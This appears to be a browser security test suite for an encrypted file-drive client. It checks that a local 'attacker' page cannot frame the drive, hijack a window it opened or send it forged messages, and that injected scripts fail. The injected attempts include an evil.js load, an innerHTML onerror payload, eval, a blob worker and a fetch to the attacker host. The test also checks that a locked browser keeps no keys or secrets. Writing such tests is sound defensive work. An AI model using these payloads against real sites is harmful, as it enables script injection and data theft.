/** What other pages, foreign scripts and whoever sits down at a locked browser may try with the built client. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { passwordOf } from "@excalibur/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ClientWorld, OTHER_NAME, startClientWorld, type Window } from "./client-world.ts";

const WORDS = ["Salaries", "film of the children"];

let world: ClientWorld;
let alice: Window;
let attacker: Server;
let evilAddress: string;

beforeAll(async () => {
  world = await startClientWorld();
  attacker = createServer((request, reply) => {
    reply.setHeader("content-type", request.url === "/evil.js" ? "text/javascript" : "text/html");
    reply.setHeader("access-control-allow-origin", "*");
    reply.setHeader("cross-origin-resource-policy", "cross-origin");
    reply.end(request.url === "/evil.js" ? "window.evilRan = true;" : evilPage(world.origin));
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  evilAddress = `http://${OTHER_NAME}:${(attacker.address() as AddressInfo).port}`;
  const laptop = await world.laptop("alice");
  for (const name of WORDS) await laptop.makeFolder(`/${name}`);
  alice = await world.enter("alice");
});

afterAll(async () => {
  await alice?.[Symbol.asyncDispose]();
  await world?.[Symbol.asyncDispose]();
  attacker?.closeAllConnections();
  attacker?.close();
});

/** Frames the drive, opens it, and says to both whatever their parts say to each other. */
function evilPage(origin: string): string {
  return `<!doctype html><iframe src="${origin}/files"></iframe><button onclick="go()">go</button><script>
    const said = ["closed", "take-over", { type: "take-over" }, { type: "download", id: "x" }, { type: "stream" }, { id: "1", type: "APPLY", path: [] }];
    function go() {
      window.opened = window.open("${origin}/files");
      window.sending = setInterval(() => {
        for (const target of [frames[0], window.opened]) for (const each of said) target?.postMessage(each, "*");
      }, 50);
    }
  </script>`;
}

describe("another page", () => {
  it("H6 can neither frame the drive, nor keep hold of one that it opened, nor say anything to it", async () => {
    const evil = await alice.context.newPage();
    await evil.goto(evilAddress);
    const [frame] = evil.mainFrame().childFrames();
    expect(await frame?.locator("body").innerText()).not.toContain("Excalibur");
    expect(await frame?.getByRole("row").count()).toBe(0);

    const opening = alice.context.waitForEvent("page");
    await evil.getByRole("button", { name: "go" }).click();
    const opened = await opening;
    await opened.getByRole("row", { name: /^Salaries/ }).waitFor();
    expect(await opened.evaluate("window.opener")).toBeNull();
    expect(await evil.evaluate("window.opened.closed")).toBe(true);
    // Whatever is said to it, from there or by a script that got into it, nobody listens.
    await opened.evaluate(
      `for (const each of ["closed", { type: "take-over" }, { type: "lock" }]) window.postMessage(each, "*")`,
    );
    await opened.getByRole("button", { name: "New", exact: true }).click();
    await opened.getByRole("menuitem", { name: "New folder" }).waitFor();
    await opened.close();
    await evil.close();
  });
});

describe("a foreign script", () => {
  it("H3 does not run: not by address, not as text, not in an attribute, not as a worker, and it reaches nobody else", async () => {
    const { page } = alice;
    const tried = (await page.evaluate(`(async () => {
      const evil = ${JSON.stringify(evilAddress)};
      const outcomes = {};
      const attempt = async (name, work) => {
        try { outcomes[name] = String(await work()); } catch (error) { outcomes[name] = error.name; }
      };
      const loaded = (element) => new Promise((resolve) => {
        element.onload = () => resolve("ran");
        element.onerror = () => resolve("refused");
        document.body.append(element);
      });
      await attempt("script", () => {
        const script = document.createElement("script");
        script.src = evil + "/evil.js";
        return loaded(script);
      });
      await attempt("text", () => { const script = document.createElement("script"); script.text = "window.evilRan = true"; document.body.append(script); return "put"; });
      await attempt("html", () => { document.createElement("div").innerHTML = "<img src=x onerror='window.evilRan = true'>"; return "put"; });
      // Debuggers may do more while they evaluate: asked from a task of the page's own.
      const later = (work) => new Promise((resolve, reject) => setTimeout(() => { try { resolve(work()); } catch (error) { reject(error); } }, 50));
      await attempt("eval", () => later(() => (0, eval)("1")));
      await attempt("timer", () => later(() => setTimeout("window.evilRan = true", 0) && "set"));
      await attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["1"]))) && "made");
      await attempt("fetch", () => fetch(evil).then(() => "sent"));
      await attempt("image", () => { const image = new Image(); image.src = evil + "/x.png"; return loaded(image); });
      await attempt("frame", () => new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
        const frame = document.createElement("iframe");
        frame.src = evil;
        document.body.append(frame);
      }));
      outcomes.ran = String(window.evilRan);
      return outcomes;
    })()`)) as Record<string, string>;
    expect(tried).toEqual({
      script: "TypeError",
      text: "TypeError",
      html: "TypeError",
      eval: "EvalError",
      timer: "TypeError",
      worker: "TypeError",
      fetch: "TypeError",
      image: "refused",
      frame: "frame-src",
      ran: "undefined",
    });
    await page.reload();
    await page.getByRole("row", { name: /^Salaries/ }).waitFor();
  });
});

interface Kept {
  readonly keys: number;
  /** Keys of the browser that a script could read out, wherever they are kept. */
  readonly readable: number;
  /** Everything else, as text. */
  readonly rows: string;
}

/** Everything that this browser keeps for the drive's address. */
async function keptBy({ page }: Window): Promise<Kept> {
  return (await page.evaluate(`(async () => {
    const settled = (request) => new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    let [keys, readable, rows] = [0, 0, JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href])];
    const look = (value) => {
      if (value instanceof CryptoKey) { keys += 1; if (value.extractable) readable += 1; }
      else if (ArrayBuffer.isView(value)) rows += new TextDecoder("latin1").decode(value) + new TextDecoder().decode(value);
      else if (value instanceof ArrayBuffer) look(new Uint8Array(value));
      else if (value !== null && typeof value === "object") for (const each of Object.values(value)) look(each);
      else rows += String(value);
    };
    for (const { name } of await indexedDB.databases()) {
      const database = await settled(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const all = database.transaction(store).objectStore(store);
        for (const value of await settled(all.getAll())) look(value);
        look(await settled(database.transaction(store).objectStore(store).getAllKeys()));
      }
      database.close();
    }
    return { keys, readable, rows };
  })()`)) as Kept;
}

describe("a browser that was locked", () => {
  it("F7 keeps no key, and nothing that says what is on the drive; while it was open, no key that a script could read out", async () => {
    const { page } = alice;
    const open = await keptBy(alice);
    expect([open.keys, open.readable]).toEqual([1, 0]);
    expect(open.rows.length).toBeGreaterThan(1_000);
    await page.getByRole("button", { name: "Account: alice" }).click();
    await page.getByRole("menuitem", { name: "Lock now" }).click();
    await page.getByRole("heading", { name: "Welcome back, alice" }).waitFor();
    const locked = await keptBy(alice);
    expect(locked.keys).toBe(0);
    for (const { rows } of [open, locked])
      for (const word of [...WORDS, passwordOf("alice")]) expect(rows).not.toContain(word);
    // It is the same browser: what it kept sealed is of use again with the password.
    await page.getByLabel("Password", { exact: true }).fill(passwordOf("alice"));
    await page.getByRole("button", { name: "Unlock" }).click();
    await page.getByRole("row", { name: /^Salaries/ }).waitFor();
  });
});
